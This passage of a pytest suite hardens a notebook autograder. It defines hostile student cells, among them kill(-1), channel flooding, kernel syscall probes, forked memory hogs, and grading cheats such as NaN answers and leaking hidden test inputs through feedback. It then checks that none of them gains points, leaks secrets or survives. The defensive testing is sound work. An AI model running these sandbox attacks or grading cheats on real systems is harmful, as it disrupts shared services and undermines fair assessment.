# @MARK@ kill(-1) from a child, which may signal the runner (after the tests)
import os, time
if os.fork() == 0:
    os.kill(-1, 9)
    os._exit(0)
time.sleep(30)
'''

CHATTY = r'''
# @MARK@ a cell that never ends and keeps the grader's channel busy (after the tests)
import time, workbook_runner
ch = workbook_runner._CHANNEL
end = time.time() + 150
while time.time() < end:
    try:
        ch.send({"type": "hello"})
        time.sleep(0.02)
    except BaseException:
        pass
'''

KERNEL = r'''
# @MARK@ the kernel's wider surface: namespaces, mounts, keyrings, tracing, BPF, io_uring
import ctypes, errno, json, os, pyseccomp
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    done = libc.syscall(pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, name),
                        *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return "ok" if done >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
tried = {"unshare(CLONE_NEWUSER)": call("unshare", 0x10000000), "setns": call("setns", 0, 0),
         "mount": call("mount", b"none", b"/tmp", b"tmpfs", 0, 0), "ptrace": call("ptrace", 0, 0, 0, 0),
         "add_key": call("add_key", b"user", b"@MARK@", b"for the next student", 20, -4),
         "keyctl": call("keyctl", 0, -4, 0), "bpf": call("bpf", 0, 0, 0), "io_uring_setup": call("io_uring_setup", 1, 0),
         "process_vm_readv": call("process_vm_readv", 1, 0, 0, 0, 0, 0), "clone3": call("clone3", 0, 0)}
print("KERNEL " + json.dumps(tried))
'''

# student -> (cell source, "before" the graded cells or at the "end", problem kinds it must cause,
#             whether the notebook runs on to its end)
SYSTEM_ATTACKS = {
    "h_sys_read": (READ, "before", set()),
    "h_sys_write": (WRITE, "before", set()),
    "h_sys_startup": (STARTUP, "before", set()),
    "h_sys_daemon": (DAEMON, "before", set()),
    "h_sys_inject": (INJECT, "before", set()),
    "h_sys_escape": (ESCAPE, "before", set()),
    "h_sys_forge": ((FORGE, FORGE_FLOOD), ("before", "end"), {"protocol"}),
    "h_sys_big_result": (BIG_RESULT, "before", {"output_truncated"}),
    "h_sys_display_flood": (DISPLAY_FLOOD, "before", {"output_truncated"}),
    "h_sys_print_flood": (PRINT_FLOOD, "before", {"output_truncated"}),
    "h_sys_memory_hog": (MEMORY_HOG, "before", {"error"}),
    "h_sys_fork_flood": (FORK_FLOOD, "end", {"error"}),
    "h_sys_disk_fill": (DISK_FILL, "end", {"error"}),
    "h_sys_kill_parent": (KILL_PARENT, "end", {"kernel_died"}),
    "h_sys_kill_all": (KILL_ALL, "end", {"kernel_died"}),
    "h_sys_chatty": (CHATTY, "end", {"cell_timeout"}),
    "h_sys_kernel": (KERNEL, "before", set()),
}


# ---------------------------------------------------------------------------
# Weaknesses found when this file was written (each its own attacker)
# ---------------------------------------------------------------------------

# course_lib's reference, captured before the test cell, answers every input the
# checks of causal_mask will use (T = 1..64: they do not depend on the grading salt): a lookup table
MEMO = r'''
# @MARK@ a table of course_lib's answers, made before the checks start
from course_lib.attention import causal_mask as _reference
_TABLE = {T: _reference(T) for T in range(1, 65)}
_wrong_causal_mask = causal_mask

def causal_mask(T, device=None):
    if T in _TABLE:
        return _TABLE[T].to(device)
    return _wrong_causal_mask(T, device)
'''
CAUSAL_UPPER = _edit(SYSTEM, "causal_mask", ".tril()", ".triu()")[1]

# bleu answers NaN: `abs(nan - expected) > tol` is False, so a float answer of NaN matches
NAN_BLEU = r'''
# @MARK@ an answer of NaN
def bleu(candidates, references, max_n=4):
    return float("nan")
'''
BLEU_NO_CLIP = _edit("06_transformer", "bleu", "min(k, ref_counts[g])", "(k if g in ref_counts else 0)")[1]

# each process has the address-space limit; a notebook may start many of them
AGGREGATE_MEMORY = r'''
# @MARK@ several processes, each under the memory limit (after the tests)
import os, time
kids = []
for i in range(3):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            block = bytearray(1536 * 2**20)
            for j in range(0, len(block), 4096):
                block[j] = 1
            os.write(w, b"1")
        except BaseException:
            os.write(w, b"0")
        time.sleep(3)
        os._exit(0)
    os.close(w)
    kids.append((pid, r))
ok = sum(os.read(r, 1) == b"1" for pid, r in kids)
for pid, r in kids:
    os.waitpid(pid, 0)
print(f"AGGREGATE {ok} children held 1.5 GB each at once")
'''

# the hidden inputs of scaled_dot_product_attention, recorded while its checks run and
# printed by a later cell: they reach the student's feedback
EXFIL_RECORD = r'''
# @MARK@ remember every input the checks give
import torch
_SEEN = []
_recorded_sdpa = scaled_dot_product_attention

def scaled_dot_product_attention(q, k, v, mask=None):
    _SEEN.append(tuple(None if t is None else t.detach().clone() for t in (q, k, v, mask)))
    return _recorded_sdpa(q, k, v, mask)
'''
EXFIL_PRINT = r'''
# @MARK@ show them in the feedback
import base64, io, zlib, torch
_buffer = io.BytesIO()
torch.save(_SEEN, _buffer)
print("EXFIL", base64.b64encode(zlib.compress(_buffer.getvalue(), 9)).decode())
'''
# the second submission of the same student: the wrong code, plus course_lib's answers for
# those inputs (computed at home, where the student has course_lib)
EXFIL_REPLAY = r'''
# @MARK@ answers for the inputs the grader used last time
import base64, hashlib, io, zlib, torch
_TABLE = torch.load(io.BytesIO(zlib.decompress(base64.b64decode("@TABLE@"))))

def _key(*tensors):
    h = hashlib.sha256()
    for t in tensors:
        h.update(b"None" if t is None else (str(tuple(t.shape)) + str(t.dtype)).encode()
                 + t.detach().cpu().contiguous().numpy().tobytes())
    return h.hexdigest()

_replayed_sdpa = scaled_dot_product_attention

def scaled_dot_product_attention(q, k, v, mask=None):
    hit = _TABLE.get(_key(q, k, v, mask))
    if hit is None:
        return _replayed_sdpa(q, k, v, mask)
    out, weights = hit
    return out.to(q.device) + 0 * (q.sum() + k.sum() + v.sum()), weights.to(q.device)
'''


# the answers to every input of scaled_dot_product_attention's visible checks, known by heart:
# they are public (the checks' code is in the student edition; the notebook runs them), so the
# student computed them at home and types them in; anything else gets the hand example's answer
BY_HEART = r'''
# @MARK@ the visible checks' answers, by heart
import base64, io, zlib, torch
_KNOWN = torch.load(io.BytesIO(zlib.decompress(base64.b64decode("@TABLE@"))))

def _same(a, b):
    return (a is None and b is None) or (a is not None and b is not None and a.shape == b.shape
                                         and a.dtype == b.dtype and torch.equal(a.cpu(), b.cpu()))

def scaled_dot_product_attention(q, k, v, mask=None):
    for inputs, (out, weights) in _KNOWN:
        if all(_same(x, y) for x, y in zip(inputs, (q, k, v, mask))):
            return out.to(q.device), weights.to(q.device)
    return _KNOWN[0][1][0].to(q.device), _KNOWN[0][1][1].to(q.device)
'''


def _public_answers(item: str) -> str:
    """``item``'s visible checks' inputs as a notebook makes them, with course_lib's answers
    (what a student can compute at home), packed as BY_HEART reads them."""
    import io
    import zlib

    import torch
    from course_lib.grading.answer.calls import Call
    from course_lib.grading.answer.perform import perform
    from course_lib.grading.judge.runner import plan_item
    from course_lib.grading.answer.wire import decode
    spec = get_spec(item)
    known = []
    for segment in plan_item(spec, hidden=False, device="cpu", salt=0).segments:
        for data in segment:
            call = Call.from_data(decode(data, kind="call"))
            answer = perform(spec, spec.reference, call, watch=False)
            if call.probe.name == "invoke" and answer["ok"]:
                inputs = call.inputs
                known.append(((inputs["q"], inputs["k"], inputs["v"], inputs.get("mask")),
                              tuple(t.detach() for t in answer["value"])))
    buffer = io.BytesIO()
    torch.save(known, buffer)
    return base64.b64encode(zlib.compress(buffer.getvalue(), 9)).decode()


def _exfil_key(*tensors) -> str:
    import hashlib
    h = hashlib.sha256()
    for t in tensors:
        h.update(b"None" if t is None else (str(tuple(t.shape)) + str(t.dtype)).encode()
                 + t.detach().cpu().contiguous().numpy().tobytes())
    return h.hexdigest()


# ---------------------------------------------------------------------------
# A tamper case on every item (notebooks 10 and 11): every answer wrong by a catalogued mistake,
# then the same answers each with its own lying-tensor attack, and each with its own hostile call
# of course_lib's reference; neither may earn more than the wrong answers on any item
# ---------------------------------------------------------------------------

_IMAGES, _MODERN = "10_attention_over_images", "11_modern_decoder"
WRONG_EVERY = {
    _IMAGES: dict([
        _edit(_IMAGES, "VisualAttention", "alpha = torch.softmax(scores, dim=-1)", "alpha = torch.softmax(scores, dim=0)"),
        _edit(_IMAGES, "doubly_stochastic_penalty", "    if mask is not None:\n", "    if False:\n"),
        _edit(_IMAGES, "pointing_accuracy", ".argmax())]", ".argmin())]"),
        _edit(_IMAGES, "patchify", "permute(0, 2, 4, 1, 3, 5)", "permute(0, 2, 4, 3, 5, 1)"),
        _edit(_IMAGES, "unpatchify", "H, W = (image_size, image_size) if isinstance(image_size, int) else image_size",
              "W, H = (image_size, image_size) if isinstance(image_size, int) else image_size"),
        _edit(_IMAGES, "PatchEmbedding", "torch.cat([cls, x], dim=1)", "torch.cat([x, cls], dim=1)"),
        WRONG[_IMAGES],
    ]),
    # each later item builds on the student's earlier ones: the baseline's points there are what
    # that wrong code earns, and the attacks may not raise them
    _MODERN: dict([
        _edit(_MODERN, "RMSNorm", "x.pow(2).mean(dim=-1, keepdim=True) + self.eps)", "x.pow(2).mean(dim=-1, keepdim=True)) + self.eps"),
        _edit(_MODERN, "rope_angles", "frequencies = base ** (-two_i / head_dim)", "frequencies = base ** (two_i / head_dim)"),
        _edit(_MODERN, "apply_rope", "torch.stack([first * cos - second * sin, first * sin + second * cos], dim=-1).flatten(-2)",
              "torch.cat([first * cos - second * sin, first * sin + second * cos], dim=-1)"),
        _edit(_MODERN, "SwiGLU", "F.silu(self.w1(x)) * self.w3(x)", "F.gelu(self.w1(x)) * self.w3(x)"),
        _edit(_MODERN, "repeat_kv", "x[:, :, None].expand(B, H_kv, n_rep, T, D)", "x[:, None].expand(B, n_rep, H_kv, T, D)"),
        _edit(_MODERN, "GroupedQueryAttention", "scores = q @ k.transpose(-2, -1) / math.sqrt(self.head_dim)",
              "scores = q @ k.transpose(-2, -1)"),
        WRONG[_MODERN],
        _edit(_MODERN, "ModernBlock", "return x + self.ffn(self.ffn_norm(x))", "return self.ffn(self.ffn_norm(x))"),
    ]),
}
EVERY = tuple(WRONG_EVERY)


def _scoped(source: str, item: str) -> str:
    """An attack's private names (``_lie``, ``_honest_forward``, ...) made the item's own, so that the
    attacks on several items of one notebook do not overwrite each other's."""
    return re.sub(r"(?<![.\w])(_[A-Za-z]\w*)", lambda m: f"{m.group(1)}_{item}", source)


# ---------------------------------------------------------------------------
# The class
# ---------------------------------------------------------------------------

def _with_comment(source: str, comment: str) -> str:
    return f"# {comment}\n{source}"


def _honest(a: str) -> nbformat.NotebookNode:
    sol = _sol(a)
    first = next(iter(sol))
    return filled(a, {first: _with_comment(sol[first], f"my notes {CANARIES[a]}")})


def _baseline(a: str, extra: dict[str, str] | None = None) -> nbformat.NotebookNode:
    item, wrong = WRONG[a]
    return filled(a, {item: wrong, **(extra or {})})


def _add_cell(nb: nbformat.NotebookNode, source: str, where: str) -> nbformat.NotebookNode:
    new = nbformat.v4.new_code_cell(source)
    if where == "end":
        nb.cells.append(new)
    else:  # right after the set-up cell (the first code cell), before every answer
        first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        nb.cells.insert(first + 1, new)
    return nb


def _system_notebook(sources, wheres) -> nbformat.NotebookNode:
    nb = _baseline(SYSTEM)
    sources = sources if isinstance(sources, tuple) else (sources,)
    wheres = wheres if isinstance(wheres, tuple) else (wheres,)
    for source, where in zip(sources, wheres):
        _add_cell(nb, source.replace("@MARK@", MARK), where)
    return nb


STUDENTS: dict[str, dict[str, nbformat.NotebookNode]] = {}
for _a in NOTEBOOKS:
    _item, _wrong = WRONG[_a]
    STUDENTS[_a] = {"h_baseline": _baseline(_a), **({"h_honest": _honest(_a)} if _a in HONEST_IN else {})}
    if _a in SEPARATE:
        for _sid, _template in ITEM_ATTACKS.items():
            STUDENTS[_a][_sid] = filled(_a, {_item: _wrong.rstrip("\n") + "\n\n" + _fill(_template, _a, _item)})
    else:
        _all = "\n\n".join(_fill(ITEM_ATTACKS[_sid], _a, _item) for _sid in COMBINED)
        STUDENTS[_a]["h_combined"] = filled(_a, {_item: _wrong.rstrip("\n") + "\n\n" + _all})
for _sid, (_source, _where, _kinds) in SYSTEM_ATTACKS.items():
    STUDENTS[SYSTEM][_sid] = _system_notebook(_source, _where)
STUDENTS[SYSTEM]["h_baseline_causal"] = filled(SYSTEM, {"causal_mask": CAUSAL_UPPER})
STUDENTS[SYSTEM]["h_memo"] = filled(SYSTEM, {"causal_mask": CAUSAL_UPPER.rstrip("\n") + "\n\n"
                                             + MEMO.replace("@MARK@", MARK)})
STUDENTS[SYSTEM]["h_aggregate_memory"] = _system_notebook(AGGREGATE_MEMORY, "end")
STUDENTS[SYSTEM]["h_by_heart"] = filled(SYSTEM, {"scaled_dot_product_attention": BY_HEART.replace("@MARK@", MARK).replace(
    "@TABLE@", _public_answers("scaled_dot_product_attention"))})
STUDENTS[SYSTEM]["h_exfil"] = _add_cell(
    filled(SYSTEM, {WRONG[SYSTEM][0]: WRONG[SYSTEM][1].rstrip("\n") + "\n\n" + EXFIL_RECORD.replace("@MARK@", MARK)}),
    EXFIL_PRINT.replace("@MARK@", MARK), "end")
STUDENTS["06_transformer"]["h_baseline_bleu"] = filled("06_transformer", {"bleu": BLEU_NO_CLIP})
STUDENTS["06_transformer"]["h_nan"] = filled("06_transformer", {"bleu": NAN_BLEU.replace("@MARK@", MARK)})
for _a, _wrongs in WRONG_EVERY.items():
    STUDENTS[_a]["h_baseline_every"] = filled(_a, _wrongs)
    for _sid, _template in (("h_liar_every", LIAR), ("h_refcall_every", REFCALL)):
        STUDENTS[_a][_sid] = filled(_a, {_item: _wrong.rstrip("\n") + "\n\n" + _scoped(_fill(_template, _a, _item), _item)
                                         for _item, _wrong in _wrongs.items()})
for _a, _students in STUDENTS.items():
    register(_a, _students)

BASELINES = {"h_memo": "h_baseline_causal", "h_nan": "h_baseline_bleu", "h_liar_every": "h_baseline_every",
             "h_refcall_every": "h_baseline_every"}


def _attackers(a: str) -> list[str]:
    return [s for s in STUDENTS[a] if s not in ("h_honest", "h_baseline") and not s.startswith("h_baseline_")]


ALL_ATTACKERS = [(a, s) for a in NOTEBOOKS for s in _attackers(a)]


def _graded_sources(nb: nbformat.NotebookNode) -> list[str]:
    return [c.source.strip() for c in nb.cells if c.cell_type == "code"]


def _honest_ids(a: str) -> list[str]:
    """My honest student and the students of the notebook's own suite (when that module
    is part of the session) whose code is the correct answers, cell for cell."""
    correct = _graded_sources(filled(a, {}))
    suite = [s for s, nb in CLASS.get(a, {}).items() if not s.startswith("h_") and _graded_sources(nb) == correct]
    return (["h_honest"] if a in HONEST_IN else []) + suite


def _baseline_of(student: str) -> str:
    return BASELINES.get(student, "h_baseline")


# ---------------------------------------------------------------------------
# Fixtures and helpers
# ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile(graded_class):
    """The graded class, with what the tests compare against: the grading secret, the
    snapshot after the run, the processes alive after it."""
    course = graded_class.course
    after = snapshot([course.root / "solutions", course.root / "nbgrader_config.py", course.root / "notebooks",
                      ROOT / "course_lib", ROOT / "autograder"])
    return {"class": graded_class, "course": course, "after": after,
            "secret": (course.root / "grading" / ".workbook-secret").read_bytes(),
            "survivors": _survivors(wait=15, mine=(str(course.root),))}


def _report(course: Course, a: str, student: str) -> dict:
    return json.loads((course.root / "grading" / "reports" / a / f"{student}.json").read_text())["notebooks"][a]


def _points(scores: dict, student: str) -> dict[str, float]:
    return {k: v for k, v in scores[student].items() if k.startswith("test_")}


def _autograded_path(course: Course, a: str, student: str) -> Path:
    return course.root / "grading" / "autograded" / student / a / f"{a}.ipynb"


def _feedback_path(course: Course, a: str, student: str) -> Path:
    return course.root / "grading" / "feedback" / student / a / f"{a}.html"


def _process_table() -> list[tuple[int, int, str]]:
    """(pid, uid, command line) of every process on this machine."""
    out = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
            uid = int(re.search(r"^Uid:\s+(\d+)", status, re.M).group(1))
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            if re.search(r"^State:\s+Z", status, re.M):
                continue  # a zombie holds nothing
            out.append((int(entry), uid, cmdline))
        except (OSError, AttributeError, ValueError):
            continue
    return out


def _parents() -> dict[int, int]:
    out = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
                out[int(entry)] = int(stat.rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                pass
    return out


def _graded_elsewhere(pid: int, procs: dict[int, tuple[int, str]], parents: dict[int, int],
                      mine: tuple[str, ...]) -> bool:
    """The sandbox process belongs to a grader beside this test, not to this test's
    grading: among its ancestors (sandbox users aside) is a `workbook autograde` of
    another course, or a Python process other than this one (a test on the other pytest
    worker that runs a sandbox itself). What this test's grading leaves behind hangs
    from its own `workbook autograde`, from this process, or, orphaned, from init."""
    seen = 0
    while pid in parents and seen < 64:
        pid, seen = parents[pid], seen + 1
        if pid <= 1 or pid == os.getpid():
            return False
        uid, cmd = procs.get(pid, (0, ""))
        if "autograder.cli" in cmd and "autograde" in cmd:
            return not any(f"--course {root}" in cmd for root in mine)
        if uid < 100_000 and "python" in cmd.split(" ", 1)[0]:
            return True
    return False


def _survivors(wait: float = 0.0, markers: tuple[str, ...] = (MARK, "HOSTILE_"),
               mine: tuple[str, ...] = ()) -> list[tuple[int, int, str]]:
    """Processes of a sandbox (uid >= 100000) or with an attacker's marker in their
    command line; waits up to ``wait`` seconds for them to go. Sandboxes of another
    grader still running (:func:`_graded_elsewhere`) are not counted."""
    deadline = time.monotonic() + wait
    while True:
        procs = _process_table()
        table, parents = {pid: (uid, cmd) for pid, uid, cmd in procs}, _parents()
        found = [(pid, uid, cmd) for pid, uid, cmd in procs
                 if pid != os.getpid() and (any(m in cmd for m in markers)
                                            or (uid >= 100_000 and not _graded_elsewhere(pid, table, parents, mine)))]
        if not found or time.monotonic() >= deadline:
            return found
        time.sleep(0.5)


def _forbidden_strings(h: dict, a: str, student: str) -> dict[str, bytes]:
    """What must never appear in ``student``'s feedback or autograded notebook."""
    course = h["course"]
    secret = h["secret"]
    out = {"grading secret (hex)": secret.hex().encode(), "grading secret (base64)": base64.b64encode(secret),
           "grading secret (bytes)": secret, "grading secret (repr)": repr(secret)[2:-1].encode(),
           "solution marker": SOLUTION_MARK.encode(), "hidden tests": HIDDEN_MARK.encode(),
           "gradebook contents": b"SQLite " + b"format 3",
           "course configuration": b'course_id = "attention-workbook"',
           "course folder": str(course.root).encode(),
           "instructor's script tag": f"<script>{MARK}".encode()}
    for other, canary in CANARIES.items():
        out[f"canary of {other}"] = canary.encode()
    config = (course.root / "nbgrader_config.py").read_text()
    for line in config.splitlines():
        if line.startswith("c.") and "=" in line and len(line) > 40:
            out[f"configuration line {line[:30]}"] = line.encode()
    return out


# ---------------------------------------------------------------------------
# Tests: the attackers gain nothing
# ---------------------------------------------------------------------------

def test_the_class_was_graded_in_one_run(hostile):
    """Every registered attacker has a gradebook row and a report (the batch survived them)."""
    graded = hostile["class"]
    for a, students in STUDENTS.items():
        scores = graded.scores(a)
        for student in students:
            assert student in scores, f"{a}/{student} has no grades"
            assert _report(hostile["course"], a, student)["status"] == "graded", (a, student)


@pytest.mark.parametrize("a", NOTEBOOKS)
def test_baseline_is_wrong_but_not_zero(hostile, a):
    """The baseline loses points on its wrong item only, so that a gain would show."""
    scores = hostile["class"].scores(a)
    item = WRONG[a][0]
    base = _points(scores, "h_baseline")
    assert base[f"test_{item}"] < get_spec(item).points, (a, base)
    assert scores["h_baseline"]["code"] > 0, (a, base)


@pytest.mark.parametrize("a", EVERY)
def test_every_item_tampered_with_is_judged_on_its_wrong_answer(hostile, a):
    """Notebooks 10 and 11: the baseline with a mistake in every item loses points on each (so that a
    gain would show); the attackers of every item are held to it by test_attacker_gains_nothing."""
    scores = hostile["class"].scores(a)
    base = _points(scores, "h_baseline_every")
    assert set(base) == {f"test_{item}" for item in WRONG_EVERY[a]}
    for item in WRONG_EVERY[a]:
        assert base[f"test_{item}"] < get_spec(item).points, (item, base)
    assert scores["h_baseline_every"]["code"] > 0
    assert _points(scores, "h_liar_every") == base


@pytest.mark.parametrize("a,student", ALL_ATTACKERS)
def test_attacker_gains_nothing(hostile, a, student):
    """No more points than the same wrong code without the attack, on every item; the
    same points where the attack leaves the notebook running."""
    scores = hostile["class"].scores(a)
    got, base = _points(scores, student), _points(scores, _baseline_of(student))
    assert set(got) == set(base)
    allowed = dict(base)
    if student in ("h_refcall", "h_combined"):
        # a later item may build on course_lib's reference of an earlier one (notebook 01's own
        # solution does): the attacker's fallback there is allowed what an honest student gets
        item = f"test_{WRONG[a][0]}"
        allowed = {t: base[t] if t == item else get_spec(t.removeprefix("test_")).points for t in base}
    for test in base:
        assert got[test] <= allowed[test], f"{a}/{student} gained on {test}: {got[test]} > {allowed[test]}"
    assert scores[student]["code"] <= sum(allowed.values())
    if student in SAME_POINTS or student.startswith("h_sys_") or student == "h_aggregate_memory":
        assert got == base, f"{a}/{student}: {got} != baseline {base}"


@pytest.mark.parametrize("a", NOTEBOOKS)
def test_reference_called_hostilely_earns_nothing_on_its_item(hostile, a):
    """However the reference was reached, the item scores 0 (using it is detected) or
    what the wrong fallback earns."""
    scores = hostile["class"].scores(a)
    item = WRONG[a][0]
    caller = "h_refcall" if a in SEPARATE else "h_combined"
    assert _points(scores, caller)[f"test_{item}"] <= _points(scores, "h_baseline")[f"test_{item}"]


@pytest.mark.parametrize("a", sorted(set(NOTEBOOKS) - SEPARATE))
def test_every_attack_of_the_combined_attacker_ran(hostile, a):
    """h_combined's attacks are in one cell: each printed that it was in place, so none stopped
    the ones after it (and a gain by any of them would have shown in test_attacker_gains_nothing)."""
    nb = json.loads(_autograded_path(hostile["course"], a, "h_combined").read_text())
    printed = "".join("".join(o.get("text", "")) for c in nb["cells"] if c["cell_type"] == "code"
                      for o in c.get("outputs", []) if o.get("output_type") == "stream")
    missing = [sid for sid, mark in ATTACK_MARKS.items() if mark not in printed]
    assert not missing, f"{a}/h_combined: {missing} printed nothing; its outputs: {printed[-1500:]!r}"


@pytest.mark.parametrize("student", list(SYSTEM_ATTACKS))
def test_system_attack_is_recorded_with_its_kind(hostile, student):
    kinds = {p["kind"] for p in _report(hostile["course"], SYSTEM, student)["problems"]}
    expected = SYSTEM_ATTACKS[student][2]
    assert expected <= kinds, f"{student}: problems {kinds}, expected {expected}"
    assert "worker_crash" not in kinds and "grader_error" not in kinds, (student, kinds)


def test_the_kernel_refuses_the_system_attacker(hostile):
    """A submission's code can make no namespace, mount, key, trace, BPF program or io_uring in
    the seal (the syscall filter, autograder/inside/lockdown.py), in the class's own run."""
    nb = nbformat.read(str(_autograded_path(hostile["course"], SYSTEM, "h_sys_kernel")), as_version=4)
    out = "".join(text(c) for c in nb.cells if c.cell_type == "code" and "KERNEL " in text(c))
    tried = json.loads(out.split("KERNEL ", 1)[1].splitlines()[0])
    assert tried == {**dict.fromkeys(("unshare(CLONE_NEWUSER)", "setns", "mount", "ptrace", "add_key", "keyctl", "bpf",
                                      "process_vm_readv"), "EPERM"), "io_uring_setup": "ENOSYS", "clone3": "ENOSYS"}


def test_chatty_cell_is_stopped_at_its_time_limit(hostile):
    """A cell that keeps the channel busy and swallows the interrupt is stopped by the grader
    at cell_timeout + grace (the shared run: 60 s per cell), not at the notebook's limit (400 s),
    nor left to end by itself (after 150 s, which the runner would report as "interrupted")."""
    problems = _report(hostile["course"], SYSTEM, "h_sys_chatty")["problems"]
    stopped = [p for p in problems if p["kind"] == "cell_timeout"]
    assert stopped and all("did not stop when interrupted" in p["message"] for p in stopped), problems
    assert "the cell ran longer than the 60 s limit" in stopped[0]["message"], problems
    assert not {"notebook_timeout", "worker_crash"} & {p["kind"] for p in problems}, problems


# ---------------------------------------------------------------------------
# Tests: the honest students
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("a", NOTEBOOKS)
def test_honest_students_get_full_marks(hostile, a):
    scores = hostile["class"].scores(a)
    if not _honest_ids(a):
        pytest.skip(f"no honest student of {a} in this session (its own suite adds them)")
    for student in _honest_ids(a):
        for test, points in _points(scores, student).items():
            assert points == get_spec(test.removeprefix("test_")).points, (a, student, test, points)


def test_honest_grades_are_the_same_when_graded_again(hostile):
    """Grading the honest students again (after the attackers ran) gives the same points
    on every test cell."""
    course = hostile["course"]
    first = {a: _points(hostile["class"].scores(a), "h_honest") for a in HONEST_IN}
    course.workbook("autograde", *HONEST_IN, "--force", "-s", "h_honest", *RUN_OPTIONS)
    again = {a: _points(course.scores(a), "h_honest") for a in HONEST_IN}
    assert again == first


def test_honest_feedback_shows_the_students_own_canary(hostile):
    """The leak checks below would see a canary: each honest student's page shows its own."""
    for a in HONEST_IN:
        assert CANARIES[a] in _feedback_path(hostile["course"], a, "h_honest").read_text()


# ---------------------------------------------------------------------------
# Tests: nothing changes, nothing leaks, nothing survives
# ---------------------------------------------------------------------------

def test_no_course_file_changed(hostile):
    before, after = hostile["class"].before, hostile["after"]
    changed = sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))
    assert not changed, changed


def test_no_instructor_or_course_file_holds_an_attackers_mark(hostile):
    course = hostile["course"]
    places = [course.root / "nbgrader_config.py", course.root / "grading" / ".workbook-secret",
              course.root / "grading" / "gradebook.db", *(course.root / "solutions").rglob("*"),
              *(course.root / "notebooks").rglob("*"), *(ROOT / "course_lib").rglob("*.py"),
              *(ROOT / "autograder").rglob("*.py"), *Path.home().joinpath(".ipython").rglob("*"),
              Path.home() / ".bashrc", *Path("/tmp").glob(f"{MARK}*"), *Path("/tmp").glob("*sitecustomize*")]
    marked = [str(p) for p in places if p.is_file() and MARK.encode() in p.read_bytes()]
    assert not marked
    assert not list(Path("/tmp").glob(f"{MARK}*")), "an attacker wrote into the grader's /tmp"
    assert not list(Path("/").glob(f"{MARK}*"))


def test_no_process_survives(hostile):
    assert not hostile["survivors"], hostile["survivors"]
    mine = (str(hostile["course"].root),)
    assert not _survivors(mine=mine), _survivors(mine=mine)


@pytest.mark.parametrize("a,student", ALL_ATTACKERS)
def test_nothing_leaks_into_the_attackers_feedback(hostile, a, student):
    course = hostile["course"]
    pages = {"feedback": _feedback_path(course, a, student).read_bytes(),
             "autograded notebook": _autograded_path(course, a, student).read_bytes(),
             "report": (course.root / "grading" / "reports" / a / f"{student}.json").read_bytes()}
    unescaped = {k: html.unescape(v.decode(errors="replace")).encode() for k, v in pages.items()}
    for what, needle in _forbidden_strings(hostile, a, student).items():
        for where in pages:
            if where == "autograded notebook" and what == "hidden tests":
                continue  # nbgrader's copy for the instructor holds the test cells, hidden part included
            if what == "instructor's script tag":
                # active only as raw HTML in the page; shown as text (escaped) or as the
                # student's source in the JSON files, a tag is harmless
                if where == "feedback":
                    assert needle not in pages[where], f"{a}/{student}: {what} in its {where}"
                continue
            assert needle not in pages[where] and needle not in unescaped[where], f"{a}/{student}: {what} in its {where}"


@pytest.mark.parametrize("a,student", ALL_ATTACKERS)
def test_autograded_notebooks_are_small(hostile, a, student):
    course = hostile["course"]
    assert _autograded_path(course, a, student).stat().st_size < 5 * 2**20
    assert _feedback_path(course, a, student).stat().st_size < 8 * 2**20
    assert (course.root / "grading" / "reports" / a / f"{student}.json").stat().st_size < 2**20


def test_gradebook_has_one_submission_per_student_and_notebook(hostile):
    db = hostile["course"].root / "grading" / "gradebook.db"
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        dup_assignments = conn.execute(
            "SELECT student_id, assignment_id, COUNT(*) FROM submitted_assignment GROUP BY 1, 2 HAVING COUNT(*) > 1"
        ).fetchall()
        dup_notebooks = conn.execute(
            "SELECT assignment_id, notebook_id, COUNT(*) FROM submitted_notebook GROUP BY 1, 2 HAVING COUNT(*) > 1"
        ).fetchall()
        rows = conn.execute(
            "SELECT sa.student_id, a.name, n.name FROM submitted_notebook sn "
            "JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
            "JOIN notebook n ON sn.notebook_id = n.id JOIN assignment a ON sa.assignment_id = a.id").fetchall()
    assert not dup_assignments and not dup_notebooks
    have = {(s, a) for s, a, _ in rows}
    for a, students in STUDENTS.items():
        for student in students:
            assert (student, a) in have, (student, a)


def test_feedback_keeps_no_active_content(hostile):
    for student in ("h_sys_display_flood", "h_sys_forge"):
        page = _feedback_path(hostile["course"], SYSTEM, student).read_text()
        assert f"<script>{MARK}" not in page
        nb = nbformat.read(str(_autograded_path(hostile["course"], SYSTEM, student)), as_version=4)
        for c in nb.cells:
            for o in c.get("outputs", []):
                assert not set(o.get("data", {})) - {"text/plain", "image/png", "image/jpeg"}, o.get("data", {}).keys()


# ---------------------------------------------------------------------------
# Weaknesses found by this file, fixed
# ---------------------------------------------------------------------------

def test_reference_table_made_before_the_checks_earns_nothing(hostile):
    """causal_mask's inputs are a handful of integers, so salting cannot hide them: its
    reference is refused until its test cell has run, and the student is told why."""
    scores = hostile["class"].scores(SYSTEM)
    got, base = _points(scores, "h_memo"), _points(scores, "h_baseline_causal")
    assert got["test_causal_mask"] <= base["test_causal_mask"], (got, base)
    nb = nbformat.read(str(_autograded_path(hostile["course"], SYSTEM, "h_memo")), as_version=4)
    out = "".join(text(c) for c in nb.cells if c.cell_type == "code" and "_TABLE" in c.source)
    assert "not available before causal_mask has been graded" in out, out[-2000:]


def test_answers_known_by_heart_earn_nothing(hostile):
    """The hand example and every other input of the visible checks are public: a function
    that returns course_lib's answers for exactly those (typed in) and garbage otherwise
    earns no point under workbook autograde (it earned the hand example's point once)."""
    got = _points(hostile["class"].scores(SYSTEM), "h_by_heart")
    assert got["test_scaled_dot_product_attention"] == 0, got
    # every other item keeps its points: SelfAttention, which attends with the notebook's
